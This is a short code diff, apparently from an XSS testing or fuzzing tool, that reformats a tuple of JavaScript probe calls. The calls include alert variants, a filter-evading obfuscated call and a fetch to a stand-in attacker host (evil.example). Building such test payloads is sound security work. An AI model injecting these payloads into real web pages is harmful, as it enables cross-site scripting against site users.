@@ -4,7 +4,15 @@ import json
 from pathlib import Path
 
 _FORMS = Path(__file__).parent.parent / "payloads" / "hostile.json"
-_CALLS = ("alert(1)", "alert`1`", "top.alert(1)", "self['al'+'ert'](1)", "fetch('//evil.example')", "print()", "confirm(1)")
+_CALLS = (
+    "alert(1)",
+    "alert`1`",
+    "top.alert(1)",
+    "self['al'+'ert'](1)",
+    "fetch('//evil.example')",
+    "print()",
+    "confirm(1)",
+)
 
 
 def payloads(count: int) -> list[str]:
